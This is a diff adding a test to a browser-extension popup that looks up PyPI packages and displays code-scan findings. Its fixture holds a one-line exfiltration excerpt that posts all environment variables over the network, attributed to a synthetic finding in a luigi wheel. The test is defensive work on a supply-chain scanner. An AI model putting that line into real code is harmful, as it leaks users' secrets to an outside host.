@@ -12,6 +12,8 @@ import type { Message, RequirementResult, RequirementsCheck } from '../../../../
 import { DEFAULT_SETTINGS } from '../../../../utils/contract/settings';
 import { toPublicSettings } from '../../../../utils/contract/settings';
 import { parseLookupInput } from '../../../../utils/page/lookup-input';
+import type { CodeFacts } from '../../../../utils/contract/report';
+import { ok, syntheticReport } from '../synthetic-facts';
 import { projectFixturePath } from '../../../support/fixtures';
 
 afterEach(cleanup);
@@ -97,6 +99,44 @@ describe('popup', () => {
     expect(sent.find((m) => m.type === 'lookup')).toEqual({ type: 'lookup', name: 'django', version: '0.1' });
     expect(store[RECENT_KEY]).toEqual([{ name: 'django', version: '0.1' }]);
     expect(screen.getByRole('navigation', { name: 'Recent lookups' }).textContent).toContain('django==0.1');
+  });
+
+  it('a lookup that finds a report then asks for its code checks, and shows the Code section with what is new', async () => {
+    const code: CodeFacts = {
+      version: '3.6.0',
+      status: 'scanned',
+      totalBytes: 10,
+      capBytes: 10_000_000,
+      hasSdist: false,
+      hasWheel: true,
+      distributions: [],
+      findings: [
+        {
+          check: 'exfiltration',
+          level: 'danger',
+          filename: 'luigi-3.6.0-py3-none-any.whl',
+          path: 'luigi/__init__.py',
+          line: 2,
+          excerpt: 'requests.post(U, json=dict(os.environ))',
+          detail: 'Sends the environment variables over the network.',
+          url: null,
+          runs: 'import',
+          newInRelease: true,
+        },
+      ],
+      comparedWith: { version: '3.5.2', state: 'compared', reason: null },
+    };
+    const { api, sent } = fakeApi({
+      lookup: () => ({ kind: 'report', report: syntheticReport() }),
+      scanCode: () => syntheticReport({ code: ok(code) }),
+    });
+    render(<Popup api={api} />);
+    fireEvent.input(screen.getByLabelText('Look up a PyPI package'), { target: { value: 'luigi' } });
+    fireEvent.click(screen.getByRole('button', { name: 'Look up' }));
+    const marker = await screen.findByText('new in this release');
+    expect(marker.closest('[data-fact="code-finding"]')?.getAttribute('data-check')).toBe('exfiltration');
+    expect(screen.getByText(/Compared with 3\.5\.2: 1 finding new in this release/)).toBeTruthy();
+    expect(sent.filter((m) => m.type === 'scanCode')).toEqual([{ type: 'scanCode', name: 'luigi' }]);
   });
 
   it('tabs follow the WAI-ARIA pattern: arrow keys move between views', async () => {
